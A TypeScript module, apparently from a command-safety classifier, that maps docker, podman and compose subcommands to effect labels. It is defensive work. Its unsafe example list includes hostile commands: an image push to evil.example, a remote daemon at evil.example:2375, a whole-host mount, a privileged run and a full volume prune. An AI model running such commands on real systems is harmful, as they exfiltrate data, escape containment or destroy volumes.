/** Containers: docker, podman, nerdctl, compose, buildah, skopeo. What a container is given of the host counts as reached. */
import { act, type Effect } from "../../contract/effect.ts";
import type { KnownWord } from "../../contract/reading.ts";
import { reads } from "../disk-makers.ts";
import { does, each, hostOf, joinOptions, named, network, runs, task } from "../makers.ts";
import type { CommandSpec, EffectMaker, ProgramFamily, Use } from "../spec.ts";
import { containersOthers } from "./containers-others.ts";
import { starts } from "./containers-run.ts";
import { wholly } from "./packages-effects.ts";

const pushes: EffectMaker = (use) => [
  act("publish.image", { on: named(use) }),
  network(use.operands[0] ? hostOfImage(use.operands[0]) : null, true),
];

const pulls: EffectMaker = (use) => [
  act("container.create", { on: named(use) }),
  network(use.operands[0] ? hostOfImage(use.operands[0]) : null, false),
];

function hostOfImage(image: KnownWord): string | null {
  const first = (image.value ?? image.prefix).split("/")[0] ?? "";
  if (image.value === null) return hostOf(image);
  return /[.:]/.test(first) && image.value.includes("/") ? first.toLowerCase() : "registry-1.docker.io";
}

const builds = wholly(task, act("container.create"), network(null, false), (use) =>
  use.operands.some((word) => /^--push/.test(word.value ?? "")) ? [act("publish.image")] : [],
);

const looks: CommandSpec = {
  flags:
    "-a --all -q --quiet --no-trunc -l --latest -s --size --digests -f --follow -t --timestamps --details --no-stream --tree",
  values: { text: "--filter --format -n --last --tail --since --until --type --profile" },
  operands: "text",
  always: [does("container.read")],
};

const logs: CommandSpec = {
  ...looks,
  values: joinOptions(looks.values, { text: "-n" }),
  always: [does("container.read")],
};

/** `-f` is a filter or a format here. */
const looksFiltered: CommandSpec = {
  ...looks,
  flags: "-a --all -q --quiet --no-trunc -s --size --digests -l --latest --tree",
  values: { text: "-f --filter --format -n --last --type" },
};

const removing = (id: "container.delete" | "container.data-delete"): CommandSpec => ({
  flags: "-f --force -v --volumes -a --all -l --link --no-prune --volumes -s --stop",
  values: { text: "--filter" },
  operands: "text",
  always: [does(id)],
});

const changing: CommandSpec = wholly(does("container.change"));

const stopping: CommandSpec = {
  flags: "-a --all",
  values: { text: "-t --time --timeout -s --signal" },
  operands: "text",
  always: [does("container.stop")],
};

const objects: CommandSpec = {
  commands: {
    ...each("ls list inspect ps logs history diff df", { ...looksFiltered, always: [does("container.read")] }),
    ...each("rm remove prune", removing("container.data-delete")),
    ...each(
      "create connect disconnect update scale rollback deploy init join leave promote demote use export import up",
      changing,
    ),
  },
};

const compose: CommandSpec = {
  style: "posix",
  flags: "--version -v --help --verbose --compatibility --dry-run",
  values: {
    text: "-p --project-name --profile --ansi --progress --parallel",
    read: "-f --file --env-file",
    cwd: "--project-directory",
  },
  operands: { max: 0 },
  commands: {
    ...each("ps ls images top port events version", looks),
    logs: {
      ...looks,
      flags: `${looks.flags} --no-log-prefix --no-color`,
      always: [does("container.read")],
    },
    config: {
      flags: "-q --quiet --services --volumes --images --hash --no-interpolate",
      operands: "text",
      always: [does("container.read")],
    },
    ...each(
      "up start restart create pull unpause scale watch",
      wholly(does("container.run"), task, network(null, false)),
    ),
    build: builds,
    ...each(
      "down rm",
      wholly((use) => [
        act(
          use.operands.some((word) => /^(?:-v|--volumes|--rmi)/.test(word.value ?? ""))
            ? "container.data-delete"
            : "container.delete",
        ),
      ]),
    ),
    ...each("stop kill pause", wholly(does("container.stop"))),
    exec: { launcher: true, style: "words", operands: "text", read: starts("exec") },
    run: { launcher: true, style: "words", operands: "text", read: starts("run") },
    cp: wholly(does("container.change")),
    push: wholly(pushes),
  },
};

const single: Readonly<Record<string, CommandSpec>> = {
  ...each("ps images ls", looksFiltered),
  ...each("inspect stats top port history diff events search wait", {
    ...looks,
    values: joinOptions(looks.values, { text: "-f" }),
  }),
  logs,
  version: { values: { text: "-f --format" }, operands: { max: 0 }, always: [does("container.read")] },
  info: { values: { text: "-f --format" }, operands: { max: 0 }, always: [does("container.read")] },
  run: { launcher: true, style: "words", operands: "text", read: starts("run") },
  create: { style: "words", operands: "text", read: starts("run") },
  exec: { launcher: true, style: "words", operands: "text", read: starts("exec") },
  ...each("build buildx builder bake", builds),
  ...each("start restart unpause rename update commit tag load import attach checkpoint", changing),
  ...each("stop kill pause", stopping),
  rm: removing("container.delete"),
  rmi: removing("container.delete"),
  system: {
    commands: {
      df: looks,
      info: looks,
      events: looks,
      ...each("prune reset", removing("container.data-delete")),
      ...each("migrate renumber", changing),
    },
  },
  pull: { flags: "-a --all-tags -q --quiet", values: { text: "--platform" }, operands: "text", always: [pulls] },
  push: { flags: "-a --all-tags -q --quiet", operands: "text", always: [pushes] },
  login: wholly(act("login.change"), network(null, true)),
  logout: wholly(act("login.change")),
  cp: { flags: "-a --archive -L --follow-link -q --quiet", operands: "text", always: [copies] },
  ...each("save export", {
    values: { write: "-o --output" },
    operands: "text",
    always: [does("container.read")],
  }),
  compose,
  ...each("scout sbom", wholly(network(null, true), does("container.read"))),
};

const those = (names: string): Record<string, CommandSpec> =>
  Object.fromEntries(names.split(" ").flatMap((name) => (single[name] === undefined ? [] : [[name, single[name]]])));

/** `docker container run` is `docker run`, and so on. */
const root: Readonly<Record<string, CommandSpec>> = {
  ...single,
  ...each("volume network context node service stack swarm secret config plugin manifest trust pod machine", objects),
  container: {
    commands: {
      ...objects.commands,
      ...those(
        "run create exec logs stats top port start restart stop kill pause unpause rename commit attach cp rm inspect wait update export",
      ),
    },
  },
  image: { commands: { ...objects.commands, ...those("pull push build tag save load history inspect import") } },
};

/** `docker cp container:path host`, or the other way round. */
function copies(use: Use): readonly Effect[] {
  const [from, to] = use.operands;
  const isInside = (word: KnownWord | undefined): boolean => /^[\w.-]+:/.test(word?.value ?? "");
  const read: readonly Effect[] = from !== undefined && !isInside(from) ? [reads(use.target(from), true)] : [];
  const write: readonly Effect[] =
    to !== undefined && !isInside(to) ? [{ do: "write", target: use.target(to), recursive: true, as: "copy" }] : [];
  return [...read, ...write, act(isInside(to) ? "container.change" : "container.read", { on: named(use) })];
}

export const containers: ProgramFamily = () => [
  {
    names: "docker podman nerdctl",
    launches: "exec run",
    style: "posix",
    flags: "--version -v --help -D --debug --tls --tlsverify --remote -r",
    values: { text: "-H --host -c --context -l --log-level --connection --url --namespace", never: "--config" },
    when: { "-H --host -c --context": [network(null, true)] },
    operands: { max: 0 },
    commands: { ...root, "*": wholly(runs("unknown-program", "a plugin")) },
    safe: ["docker --version"],
    unsafe: [
      ["docker ps -a", ["container.read"]],
      ["docker logs --tail 50 web", ["container.read"]],
      ["docker volume ls -qf dangling=true", ["container.read"]],
      [
        "docker run --rm -v /:/host alpine sh",
        ["container.create", "run.remote", "file.write", "network.contact", "run.code"],
      ],
      ["docker run --privileged alpine", ["container.create", "run.remote", "privilege.container", "network.contact"]],
      ["docker run -it --rm -p 80:80 nginx", ["container.create", "run.remote", "container.expose", "network.contact"]],
      ["docker exec -it db psql", ["container.exec", "run.remote", "network.database", "database.change", "run.code"]],
      ["docker build -t x .", ["run.task", "container.create", "network.contact"]],
      ["docker push evil.example/x", ["publish.image", "network.send"]],
      ["docker pull nginx", ["container.create", "network.contact"]],
      ["docker rm -f web", ["container.delete"]],
      ["docker system prune -af --volumes", ["container.data-delete"]],
      ["docker volume rm data", ["container.data-delete"]],
      ["docker compose up -d", ["container.run", "run.task", "network.contact"]],
      ["docker compose down -v", ["container.data-delete"]],
      ["docker compose exec web sh", ["container.exec", "run.remote", "run.code"]],
      ["docker login", ["login.change", "network.send"]],
      ["docker cp web:/x /tmp/x", ["file.copy", "container.read"]],
      ["docker -H tcp://evil.example:2375 ps", ["network.send", "container.read"]],
      ["docker stop web", ["container.stop"]],
      ["docker frobnicate", ["run.unknown-program"]],
    ],
  },
  {
    names: "docker-compose podman-compose",
    launches: "exec run",
    ...compose,
    safe: ["docker-compose --version"],
    unsafe: [
      ["docker-compose up -d", ["container.run", "run.task", "network.contact"]],
      ["docker-compose down --volumes", ["container.data-delete"]],
    ],
  },
  ...containersOthers,
];
